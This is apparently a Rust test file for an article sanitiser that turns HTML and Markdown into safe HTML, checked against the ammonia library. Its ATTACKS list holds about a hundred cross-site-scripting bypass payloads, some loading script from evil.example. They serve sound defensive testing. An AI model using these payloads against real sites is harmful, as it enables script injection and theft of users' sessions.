//! Whole bodies in, HTML and findings out.

use std::collections::HashSet;
use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;
use crate::diagnostic::Diagnostic;

fn page() -> Url {
    Url::parse("https://courier.example/world/grain/").unwrap()
}

fn rendered(body: &str, markup: Markup) -> (String, Vec<Diagnostic>) {
    let mut report = Report::new("articles/grain.md", body);
    let html = render(body, markup, &Context { base: &page(), prefix: "p-" }, &mut report);
    assert_fit(&html, body);
    (html, report.into_diagnostics())
}

fn html(body: &str) -> String {
    rendered(body, Markup::Html).0
}

fn markdown(body: &str) -> String {
    rendered(body, Markup::Markdown).0
}

fn rules(body: &str, markup: Markup) -> Vec<&'static str> {
    rendered(body, markup).1.iter().map(|diagnostic| diagnostic.rule.name).collect()
}

/// What must hold of every output, as another sanitiser and a parser see it.
fn assert_fit(html: &str, body: &str) {
    assert!(html.chars().all(write::is_allowed), "forbidden character in {html:?} of {body:?}");
    assert_eq!(html.trim_ascii(), html);
    let tree = dom::parse_fragment(html).expect("output is nested too deep");
    assert_eq!(tree.errors, 0, "parse errors in {html:?} of {body:?}");
    let mut ids = HashSet::new();
    for id in tree.descendants(dom::ROOT) {
        let node = tree.node(id);
        let dom::Data::Element(name, attributes) = &node.data else { continue };
        if &*name.local == "html" {
            continue;
        }
        let allow::Fate::Keep(kept, allowed) = allow::fate(node.name()) else {
            panic!("<{}> in {html:?} of {body:?}", &*name.local);
        };
        assert_eq!(kept, node.name());
        for attribute in attributes {
            let key = &*attribute.name.local;
            assert!(allow::is_global(key) || allowed.contains(&key), "{key} in {html:?} of {body:?}");
            let urls: Vec<&str> = match key {
                "href" | "src" | "poster" | "cite" => vec![&attribute.value],
                "srcset" => source::candidates(&attribute.value).map(|(url, _)| url).collect(),
                "id" => {
                    assert!(attribute.value.starts_with("p-"), "{html:?} of {body:?}");
                    assert!(ids.insert(attribute.value.to_string()), "id twice in {html:?} of {body:?}");
                    continue;
                }
                _ => continue,
            };
            for url in urls {
                assert!(url.is_ascii(), "{url}");
                let parsed = Url::parse(url).unwrap_or_else(|_| panic!("{url} in {html:?} of {body:?}"));
                assert!(!matches!(parsed.scheme(), "javascript" | "vbscript" | "file" | "blob"), "{url}");
                assert!(parsed.scheme() != "data" || url.starts_with("data:image/"), "{url}");
            }
        }
    }
    assert_eq!(ammonia_of(html), html, "another sanitiser would change the HTML of {body:?}");
}

/// `html` as `ammonia` leaves it with the same lists, in this crate's way of writing.
fn ammonia_of(html: &str) -> String {
    static BUILDER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
        let mut builder = ammonia::Builder::new();
        let tags: Vec<&str> = ELEMENTS.split_whitespace().collect();
        builder.tags(tags.iter().copied().collect()).link_rel(None).strip_comments(true);
        builder.generic_attributes(["id", "title", "dir", "lang", "class"].into()).allowed_classes(Default::default());
        builder.tag_attributes(
            tags.iter()
                .filter_map(|&tag| match allow::fate(tag) {
                    allow::Fate::Keep(_, attributes) => Some((tag, attributes.iter().copied().collect())),
                    _ => None,
                })
                .collect(),
        );
        builder.add_url_schemes([
            "data", "webcal", "urn", "tag", "doi", "gopher", "gemini", "feed", "xmpp", "sips", "git",
        ]);
        builder
    });
    let clean = BUILDER.clean(html).to_string();
    // ammonia writes non-breaking spaces and void elements otherwise, and not the line end that <pre> swallows.
    let normal = |html: &str| {
        let tree = dom::parse_fragment(html).unwrap();
        format!("{:?}", tree.descendants(dom::ROOT).map(|id| shape(tree.node(id))).collect::<Vec<_>>())
    };
    let pre = |html: &str| html.replace("<pre>\n", "<pre>").replace('\n', "");
    if normal(&pre(&clean)) == normal(&pre(html)) { html.to_owned() } else { clean }
}

fn shape(node: &dom::Node) -> String {
    match &node.data {
        dom::Data::Element(name, attributes) => {
            let mut all: Vec<String> = attributes.iter().map(|a| format!("{}={}", a.name.local, a.value)).collect();
            all.sort();
            format!("<{} {all:?}>", name.local)
        }
        dom::Data::Text(text) => text.to_string(),
        dom::Data::Nothing => String::new(),
    }
}

const ELEMENTS: &str = "a abbr address article aside audio b bdi bdo blockquote br caption cite code col colgroup dd del \
    details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark nav ol p picture \
    pre q rb rp rt ruby s samp section small source span strong sub summary sup table tbody td tfoot th thead time tr \
    track u ul var video wbr";

#[test]
fn attacks_leave_nothing_that_runs() {
    for attack in ATTACKS {
        for (markup, body) in [
            (Markup::Html, attack.to_string()),
            (Markup::Markdown, attack.to_string()),
            (Markup::Markdown, format!("Text {attack} text\n\n* {attack}\n")),
            (Markup::Html, format!("<!DOCTYPE html><title>x</title><main><p>{attack}</p></main>")),
            (Markup::Html, format!("<table><tr><td>{attack}")),
            (Markup::Html, format!("<math><mtext>{attack}</mtext></math><svg><desc>{attack}")),
            (Markup::Text, attack.to_string()),
        ] {
            rendered(&body, markup);
        }
    }
}

/// Ways to smuggle script past a filter.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "<scr&#0;ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=javascript:alert(1)>",
    "<img src=' \u{1} javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<img data-src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,%3Csvg onload=alert(1)%3E\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&#x3a;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='\u{1}\u{2}javascript:alert(1)'>x</a>",
    "<a href='java\u{0}script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='view-source:javascript:1'>x</a>",
    "<a href='x' onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<a href='x' style='x:expression(alert(1))'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href=\"https://x.example/\" target=_blank ping=//evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import '//evil.example'</style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>'>",
    "<object data=javascript:alert(1)></object>",
    "<object><param name=movie value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<body onload=alert(1)>x",
    "<body background=javascript:alert(1)>x",
    "<table background=javascript:alert(1)><tr><td background=javascript:x>x",
    "<video poster=javascript:alert(1) src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)><source src=javascript:alert(1) onerror=x></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<template><script>alert(1)</script></template>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<td style='text-align:expression(alert(1))'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p><script>alert(1)</script>",
    "<p title='</p><script>alert(1)</script>'>x",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](JAVASCRIPT:alert(1) \"title\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "![x](x\"onerror=alert\\(1\\))",
    "[x](x 'y\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "```x\" onclick=\"alert(1)\ny\n```",
    "# x {#y onclick=alert(1) .z}",
    "[^x\"onclick=\"y]\n\n[^x\"onclick=\"y]: z",
    "<my-widget onclick=x><slot onload=x></my-widget>",
    "<image src=x onerror=alert(1)>",
    "<a id='x' name='y' href='#x' href='javascript:alert(1)'>",
];

#[test]
fn addresses_are_absolute() {
    let base = "https://courier.example/world/grain/";
    for (body, expected) in [
        ("<a href=x>y</a>", format!("<a href=\"{base}x\">y</a>")),
        ("<a href=\"mailto:a@b.example\">y</a>", "<a href=\"mailto:a@b.example\">y</a>".into()),
        ("<img src=/a.jpg alt=\"A &amp; B\">", "<img src=\"https://courier.example/a.jpg\" alt=\"A &amp; B\">".into()),
        (
            "<img srcset='a.jpg, b.jpg 2x, javascript:x 3x' src=a.jpg>",
            format!("<img src=\"{base}a.jpg\" srcset=\"{base}a.jpg, {base}b.jpg 2x\">"),
        ),
        (
            "<picture><source srcset='é.webp 640w' type=image/webp><img src=a.jpg></picture>",
            format!(
                "<picture><source srcset=\"{base}%C3%A9.webp 640w\" type=\"image/webp\"><img src=\"{base}a.jpg\"></picture>"
            ),
        ),
        (
            "<video poster=p.jpg src=v.mp4 autoplay></video>",
            format!("<video src=\"{base}v.mp4\" poster=\"{base}p.jpg\" controls=\"\"></video>"),
        ),
        ("<q cite=//x.example/>z</q>", "<q cite=\"https://x.example/\">z</q>".into()),
        ("<a href='https://[bad/'>kept</a>", "kept".into()),
        ("<img src='http://exa mple/' alt='A silo'>", "A silo".into()),
    ] {
        assert_eq!(html(body), expected, "{body}");
    }
    assert_eq!(markdown("[a](../b \"T\")"), "<p><a href=\"https://courier.example/world/b\" title=\"T\">a</a></p>");
    assert_eq!(markdown("![a *b*](c.jpg)"), format!("<p><img src=\"{base}c.jpg\" alt=\"a b\"></p>"));
    assert_eq!(markdown("[a](javascript:b) ![c](data:x)"), "<p>a c</p>");
}

#[test]
fn ids_are_the_entrys_own_and_links_to_them_work() {
    let to = |id| format!("https://courier.example/world/grain/#p-{id}");
    assert_eq!(markdown("# A {#a}\n\n[x](#a)"), format!("<h1 id=\"p-a\">A</h1>\n<p><a href=\"{}\">x</a></p>", to("a")));
    let here = "https://courier.example/world/grain/";
    assert_eq!(markdown("[x](#b)"), format!("<p><a href=\"{here}#b\">x</a></p>"), "an id of the page around");
    let body =
        "<a href='#é'>x</a><a href='./#%C3%A9'>y</a><h2 id=é>E</h2><h2 id=é>twice</h2><a name=n></a><i id='a b'>z</i>";
    let (e, prefixed) = (to("%C3%A9"), "<h2 id=\"p-é\">E</h2><h2>twice</h2><a id=\"p-n\"></a><i>z</i>");
    assert_eq!(html(body), format!("<a href=\"{e}\">x</a><a href=\"{e}\">y</a>{prefixed}"));
    assert_eq!(
        markdown("[x](#q)\n\n<p id=q>z</p>\n"),
        format!("<p><a href=\"{}\">x</a></p>\n<p id=\"p-q\">z</p>", to("q")),
        "Markdown with raw HTML"
    );
}

#[test]
fn footnotes_are_numbered_by_first_reference_and_linked_both_ways() {
    let body = "A[^b] B[^a] C[^B]\n\n[^a]: one\n\n[^unused]: never[^c]\n\n[^b]: two[^d]\n\n    - list\n\n[^d]: four\n";
    let to = |id: &str| format!("https://courier.example/world/grain/#p-{id}");
    let mark = |number: u8, id: &str| {
        format!("<sup><a href=\"{}\" id=\"p-fnref-{id}\">{number}</a></sup>", to(&format!("fn-{number}")))
    };
    let back = |id: &str| format!("<a href=\"{}\">↩\u{FE0E}</a>", to(&format!("fnref-{id}")));
    let expected = format!(
        "<p>A{} B{} C{}</p>\n<section class=\"footnotes\">\n<ol>\n\
         <li id=\"p-fn-1\">\n<p>two{}</p>\n<ul>\n<li>list</li>\n</ul>\n<p>{} {}</p>\n</li>\n\
         <li id=\"p-fn-2\">\n<p>one {}</p>\n</li>\n<li id=\"p-fn-3\">\n<p>four {}</p>\n</li>\n</ol>\n</section>",
        mark(1, "1"),
        mark(2, "2"),
        mark(1, "1-2"),
        mark(3, "3"),
        back("1"),
        back("1-2").replace("</a>", "<sup>2</sup></a>"),
        back("2"),
        back("3"),
    );
    assert_eq!(markdown(body), expected);
    // The same by way of the tree: only the order of attributes may differ.
    let raw = markdown(&format!("{body}\n<hr>\n"));
    assert!(raw.contains(&format!("id=\"p-fnref-1-2\" href=\"{}\"", to("fn-1"))), "{raw}");
    assert_eq!(raw.matches("<li id=").count(), 3);
    assert_eq!(markdown("A[^x]"), "<p>A[^x]</p>", "undefined");
    // A definition that refers to itself ends.
    assert_eq!(markdown("A[^x]\n\n[^x]: see[^x]").matches("<li id=").count(), 1);
}

#[test]
fn an_id_of_the_authors_own_does_not_meet_a_footnotes() {
    let out = markdown("A[^1]\n\n<p id=fn-1>mine</p>\n\n[^1]: note");
    assert!(out.contains("<p id=\"p-fn-1\">mine</p>") && out.contains("<li id=\"p-note-1\">"), "{out}");
}

#[test]
fn markdown_extensions_are_written_without_forms_and_styles() {
    assert_eq!(markdown("- [x] a\n- [ ] b"), "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>");
    assert_eq!(markdown("- [x] a\n\n  <i>b</i>"), "<ul>\n<li>\n<p>☑ a</p>\n<p><i>b</i></p>\n</li>\n</ul>");
    let head = "<table>\n<thead>\n<tr><th>a</th><th align=\"center\">b</th></tr>\n</thead>\n";
    assert_eq!(markdown("|a|b|\n|-|:-:|"), format!("{head}</table>"));
    assert_eq!(
        markdown("|a|b|\n|-|:-:|\n|1|"),
        format!("{head}<tbody>\n<tr><td>1</td><td align=\"center\"></td></tr>\n</tbody>\n</table>")
    );
    assert_eq!(markdown("~~a~~ *b* **c**\\\nd"), "<p><del>a</del> <em>b</em> <strong>c</strong><br>\nd</p>");
    assert_eq!(markdown("3. a\n4. b"), "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>");
    assert_eq!(markdown("<!-- a -->\n\nb <!-- c --> d"), "<p>b  d</p>");
    assert_eq!(
        html("<td><table><td style='color:red; text-align: RIGHT'>x</table>").matches("align=\"right\"").count(),
        1
    );
}

#[test]
fn code_survives_as_it_is() {
    assert_eq!(
        markdown("```html\n\n<script>a && \"b\"</script> ]]>\n```"),
        "<pre><code class=\"language-html\">\n&lt;script&gt;a &amp;&amp; \"b\"&lt;/script&gt; ]]&gt;\n</code></pre>"
    );
    assert_eq!(markdown("`<b>` `]]>`"), "<p><code>&lt;b&gt;</code> <code>]]&gt;</code></p>");
    // The parser swallows one line end after the tag, here and in every reader.
    assert_eq!(html("<pre>\n\n  a\n\tb </pre>"), "<pre>\n\n  a\n\tb </pre>");
    assert_eq!(html("<pre>\n a</pre>"), "<pre> a</pre>");
    assert_eq!(html("<pre>&#10;&#10;a</pre>"), "<pre>\n\na</pre>");
    assert_eq!(html("<pre><font>&#13;\na</font></pre>"), "<pre>\n\na</pre>");
    assert_eq!(markdown("<pre>\n\n  a\n</pre>"), "<pre>\n\n  a\n</pre>");
    assert_eq!(html("<xmp><b></xmp>"), "<pre>&lt;b&gt;</pre>");
    assert_eq!(html("<code class='language-rust x'>y</code>"), "<code class=\"language-rust\">y</code>");
}

#[test]
fn forbidden_characters_are_dropped_and_told_with_their_place() {
    for (body, markup, line, column) in [
        ("a\nb\u{8}c", Markup::Markdown, 2, 2),
        ("a\nb\u{0}c", Markup::Markdown, 2, 2),
        ("a\n\nb &#1; c", Markup::Markdown, 3, 3),
        ("a\nb &#x00; c", Markup::Markdown, 2, 3),
        ("a\n<i>b\u{FFFE}</i>", Markup::Markdown, 2, 5),
        ("a\n<i>&#0;</i>", Markup::Html, 2, 4),
        ("a\nb &#1; c", Markup::Html, 2, 3),
        ("a\n\u{1F}b", Markup::Html, 2, 1),
        ("a\n\u{9F}b", Markup::Text, 2, 1),
        ("```\n\n\u{7F}\n```", Markup::Markdown, 3, 1),
    ] {
        let (html, diagnostics) = rendered(body, markup);
        assert!(!html.contains('\u{FFFD}'), "{html:?}");
        let [diagnostic] = &diagnostics[..] else { panic!("{diagnostics:?} for {body:?}") };
        assert_eq!(diagnostic.rule.name, "forbidden-character");
        let place = diagnostic.place.unwrap();
        assert_eq!((place.line, place.column), (line, column), "{body:?}");
    }
    assert_eq!(rules("a \u{FFFD} &#xFFFD; \u{85} b", Markup::Markdown), [""; 0]);
    assert!(markdown("\u{FFFD}").contains('\u{FFFD}'), "an author's own stays");
    assert_eq!(rules("\u{1}\u{2} &#3;\n\n<b>\u{4}</b>", Markup::Markdown).len(), 1, "told once");
}

#[test]
fn lazy_pictures_are_repaired_and_their_doubles_dropped() {
    let src = "<img src=\"https://courier.example/world/grain/a.jpg\">";
    for body in [
        "<img data-src=a.jpg>",
        "<img data-original=a.jpg src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
        "<img data-lazy-src=a.jpg src=/img/blank.gif>",
        "<img data-lazy-src=a.jpg src='data:image/svg+xml,x'> <noscript><img src=a.jpg></noscript>",
        "<noscript><img src=a.jpg></noscript><img data-src=a.jpg>",
        "<img src=a.jpg><noscript><img src=a.jpg></noscript>",
        "<img src=a.jpg data-src=large.jpg>",
        "<noscript><img src=a.jpg></noscript>",
        "<img><noscript><img src=a.jpg></noscript>",
    ] {
        assert_eq!(html(body), src, "{body}");
        assert_eq!(rules(body, Markup::Html), [""; 0], "{body}");
    }
    let base = "https://courier.example/world/grain/";
    let both = format!("<img src=\"{base}b.jpg\" srcset=\"{base}a.jpg 1x, {base}b.jpg 2x\">");
    assert_eq!(html("<img data-srcset='a.jpg 1x, b.jpg 2x'>"), both);
    assert_eq!(
        html("<img src='data:image/png;base64,iVBORw0KGgo='>"),
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "a small picture is a picture"
    );
    let kept = html("<p>x</p><noscript><p>Please run scripts.</p></noscript>");
    assert_eq!(kept, "<p>x</p><p>Please run scripts.</p>");
}

#[test]
fn frames_become_links() {
    for (body, expected) in [
        (
            "<iframe src='//www.youtube.com/embed/x1' title=' A film '></iframe>",
            "<p><a href=\"https://www.youtube.com/watch?v=x1\">A film</a></p>",
        ),
        ("<p>a <iframe src=//m.example/q></iframe></p>", "<p>a <a href=\"https://m.example/q\">m.example</a></p>"),
        ("<embed src=/f.pdf>", "<p><a href=\"https://courier.example/f.pdf\">courier.example</a></p>"),
        ("<object data=/f.pdf>no</object>", "<p><a href=\"https://courier.example/f.pdf\">courier.example</a></p>"),
        (
            "<object><param name=movie value=/f.swf><embed src=/g.swf></object>",
            "<p><a href=\"https://courier.example/f.swf\">courier.example</a></p>",
        ),
        ("<object><p>only this</p></object>", "<p>only this</p>"),
        ("<a href=/x><iframe src=/y title=Y></iframe></a>", "<a href=\"https://courier.example/x\">Y</a>"),
        ("<iframe data-src=/y src=about:blank title=Y></iframe>", "<p><a href=\"https://courier.example/y\">Y</a></p>"),
        ("x<iframe src=/t width=1 height=1></iframe><iframe src=/t style='display: none'></iframe>", "x"),
        (
            "<figure><iframe src=/y title=Y></iframe></figure>",
            "<figure><p><a href=\"https://courier.example/y\">Y</a></p></figure>",
        ),
    ] {
        assert_eq!(html(body), expected, "{body}");
    }
    assert_eq!(rules("x\n\n<iframe src=/y></iframe>", Markup::Markdown), ["embed-linked"]);
    assert_eq!(rules("<iframe srcdoc=x></iframe>", Markup::Html), ["removed-element"]);
    assert_eq!(rules("<iframe src=javascript:x></iframe>", Markup::Html), ["unsafe-link"]);
}

#[test]
fn what_is_taken_out_is_told_with_its_place() {
    let body =
        "One.\n\n`<script>`\n\n<div>\n <script src=x></script>\n</div>\n\nTwo <button>b</button>\n<my-map></my-map>\n";
    let (html, diagnostics) = rendered(body, Markup::Markdown);
    assert_eq!(html, "<p>One.</p>\n<p><code>&lt;script&gt;</code></p>\n<div>\n \n</div>\n<p>Two b\n</p>");
    let told: Vec<_> =
        diagnostics.iter().map(|d| (d.params[0].1.as_str(), d.place.map(|p| (p.line, p.column)))).collect();
    assert_eq!(told, [("script", Some((6, 2))), ("button", Some((9, 5))), ("my-map", Some((10, 1)))]);
    let (_, diagnostics) =
        rendered("x\r\n<p><a\n href='javascript:x'>y</a> <a href=file:/x>z</a>\n[a](b:c)", Markup::Html);
    let told: Vec<_> = diagnostics.iter().map(|d| (d.rule.name, d.place.map(|p| (p.line, p.column)))).collect();
    assert_eq!(told, [("unsafe-link", Some((3, 8))), ("unsafe-link", Some((3, 36)))]);
    let (_, diagnostics) = rendered("x\n\ny [a](localhost:3000/x)", Markup::Markdown);
    assert_eq!(diagnostics[0].place.map(|p| (p.line, p.column)), Some((3, 3)));
    assert_eq!(diagnostics[0].help.as_deref(), Some("write `https://` before `localhost`"));
}

#[test]
fn faulty_html_comes_out_faultless() {
    for body in [
        "<p>a<p>b</b><i>c",
        "<a href=1><a href=2>x",
        "<p><button><p>x</p></button></p>",
        "<p><table><td><p>x</table>y",
        "<table>a<tr>b<td>c<p>d</table>",
        "<ruby><b>x<rt>y</rt></b></ruby>",
        "<h1>a<h2>b</h1>c",
        "<b><p>x</b>y</p>",
        "<i><b><p>x</i>y</b>z</p>",
        "<div/>x<p/>y<br/>z",
        "a & b &copy c &amp; d &nosuch; <e",
        "<ul><div><li>x</ul><li>y",
        "<select><p>x</select>",
        "<frameset><frame></frameset>x",
        "<label><p>a<label><p>b",
        "<p><center>x</center></p><dialog><p>y</dialog>",
        "<html><body><p>a</body></html>b<p>c",
        "<form><p><form><p>x</form></form>",
        "<svg><p>x</p></svg><math><p>y",
        "<col><caption>x</caption><tr><td>y",
        "<nobr>a<nobr>b<marquee><nobr></marquee>",
        "<object><p><object></p>x",
        "</p></br></div>",
        "<a><div><a><p>x</a></div></a>",
        "<figure><figcaption><p>x<figure></figcaption>y",
        "<li><figcaption><li>x",
    ] {
        html(body);
        markdown(body);
    }
    assert_eq!(
        html("<ul><li><figcaption><li>x<ul><li>y"),
        "<ul><li><figcaption><div>x<ul><li>y</li></ul></div></figcaption></li></ul>"
    );
    assert_eq!(html("a & b < c"), "a &amp; b &lt; c");
    assert_eq!(html("<p>a<p>b"), "<p>a</p><p>b</p>");
}

#[test]
fn of_a_page_the_article_counts() {
    let page = |body: &str| {
        format!("<!-- c -->\n<!DOCTYPE html>\n<html><head><title>T</title><style>x</style></head>{body}</html>")
    };
    assert_eq!(html(&page("<body><p>x</p></body>")), "<p>x</p>");
    assert_eq!(html(&page("<body><nav>n</nav><main><p>x</p></main><footer>f</footer></body>")), "<p>x</p>");
    assert_eq!(html(&page("<body><nav>n</nav><article><h1>h</h1></article></body>")), "<h1>h</h1>");
    assert_eq!(
        html(&page("<body><article>a</article><article>b</article></body>")),
        "<article>a</article><article>b</article>"
    );
    assert_eq!(html("\u{FEFF}<body><p>x"), "<p>x</p>");
    assert_eq!(html("<article>a</article>"), "<article>a</article>", "a fragment is all of it");
}

#[test]
fn plain_text_keeps_its_lines() {
    for (body, expected) in [
        ("a\nb\n\n\n c\r\n\r\nd\re", "<p>a<br>\nb</p>\n<p>c</p>\n<p>d<br>\ne</p>"),
        ("<b> & \"x\"", "<p>&lt;b&gt; &amp; \"x\"</p>"),
        (
            "see (http://x.example/a_(b)), https://é.example.",
            "<p>see (<a href=\"http://x.example/a_(b)\">http://x.example/a_(b)</a>), \
             <a href=\"https://xn--9ca.example/\">https://é.example</a>.</p>",
        ),
        ("http:// nohttp://x https://", "<p>http:// nohttp://x https://</p>"),
        (" \n\t\n", ""),
    ] {
        assert_eq!(rendered(body, Markup::Text).0, expected, "{body:?}");
    }
}

#[test]
fn depth_and_growth_are_bounded() {
    let n = 30_000;
    for (body, markup) in [
        (">".repeat(n), Markup::Markdown),
        ("- ".repeat(n) + &"\n".repeat(n), Markup::Markdown),
        ("<div>".repeat(n) + "x", Markup::Html),
        ("<div>".repeat(n) + "x", Markup::Markdown),
        ("<table><tr><td>".repeat(n) + "x", Markup::Html),
        ((0..n).map(|i| format!("<p><b a{i}>x")).collect(), Markup::Html),
        ("<div ".to_owned() + &(0..n).map(|i| format!("a{i} ")).collect::<String>() + ">x", Markup::Html),
    ] {
        let (html, diagnostics) = rendered(&body, markup);
        assert_eq!(diagnostics.len(), 1, "{}", &body[..20]);
        assert_eq!(diagnostics[0].rule.name, "nesting-too-deep");
        assert!(html.contains('x') || html.contains("&gt;") || html.contains('-'), "the text is kept");
    }
    for open in ["**", "*a _b ", "[", "![", "[a](", "`a``", "~~a ", "<", "&", "](", "![a][", "<a ", "<!--"] {
        markdown(&open.repeat(n / open.len()));
        html(&open.repeat(n / open.len()));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_mixture_is_made_fit(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..24)) {
        let body = pieces.concat();
        for markup in [Markup::Markdown, Markup::Html, Markup::Text] {
            rendered(&body, markup);
        }
    }

    #[test]
    fn any_text_is_made_fit(body in "\\PC{0,60}|[\\x00-\\x7f]{0,80}|[<>/a-d=\"' &;#x0-9\n\t\u{0}\u{FFFE}\u{85}-]{0,80}") {
        for markup in [Markup::Markdown, Markup::Html, Markup::Text] {
            rendered(&body, markup);
        }
    }

    #[test]
    fn clean_html_stays_as_it_is(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..24)) {
        let (once, _) = rendered(&pieces.concat(), Markup::Html);
        let (twice, diagnostics) = rendered(&once, Markup::Html);
        prop_assert_eq!(twice.replace("p-p-", "p-"), once);
        prop_assert!(diagnostics.is_empty(), "{:?}", diagnostics);
    }
}

/// Pieces that do each other harm.
const PIECES: &[&str] = &[
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<a href=x>",
    "</a>",
    "<table>",
    "</table>",
    "<tr>",
    "<td>",
    "</td>",
    "<th>",
    "<caption>",
    "<tbody>",
    "<colgroup>",
    "<col>",
    "<ul>",
    "</ul>",
    "<li>",
    "<dl>",
    "<dt>",
    "<dd>",
    "<h1>",
    "</h1>",
    "<h2>",
    "<pre>",
    "</pre>",
    "<code>",
    "</code>",
    "<ruby>",
    "</ruby>",
    "<rt>",
    "<rp>",
    "<rb>",
    "<rtc>",
    "<button>",
    "</button>",
    "<form>",
    "</form>",
    "<select>",
    "</select>",
    "<option>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mi>",
    "</math>",
    "<foreignObject>",
    "<annotation-xml encoding=text/html>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<title>",
    "</title>",
    "<textarea>",
    "</textarea>",
    "<xmp>",
    "</xmp>",
    "<noscript>",
    "</noscript>",
    "<template>",
    "</template>",
    "<iframe src=y>",
    "</iframe>",
    "<object data=z>",
    "</object>",
    "<embed src=e>",
    "<img src=i>",
    "<img data-src=l>",
    "<br>",
    "</br>",
    "<hr>",
    "<input type=checkbox>",
    "<label>",
    "<fieldset>",
    "<nobr>",
    "<font>",
    "</font>",
    "<center>",
    "<video src=v>",
    "<source src=s>",
    "<track src=t>",
    "<details>",
    "<summary>",
    "<figure>",
    "<figcaption>",
    "<section id=s>",
    "<a name=n>",
    "<a href=#s>",
    "<picture>",
    "<dialog>",
    "<marquee>",
    "</marquee>",
    "<frameset>",
    "<body>",
    "<html>",
    "<head>",
    "</body>",
    "<main>",
    "<menu>",
    "<x-y>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?x?>",
    "<!doctype html>",
    "\n",
    "\n\n",
    "\r\n",
    " ",
    "    ",
    "text",
    "&amp;",
    "&",
    "&#0;",
    "&#1;",
    "&lt;script&gt;",
    "\u{0}",
    "\u{1}",
    "\u{FFFF}",
    "\u{85}",
    "> ",
    "- ",
    "1. ",
    "# ",
    "# h {#s}\n",
    "*",
    "**",
    "_",
    "~~",
    "`",
    "```\n",
    "[a](b)",
    "[a](#s)",
    "[",
    "](",
    ")",
    "![",
    "[^1]",
    "\n\n[^1]: note ",
    "|a|b|\n|-|-|\n|c|",
    "- [x] ",
    "<https://é.example>",
    "\\",
    "😀",
    "<p align=center style='text-align:left'>",
    "<td style='text-align:center'>",
    "<img srcset='a 1x,b 2x'>",
    "<q cite=c>",
];

#[test]
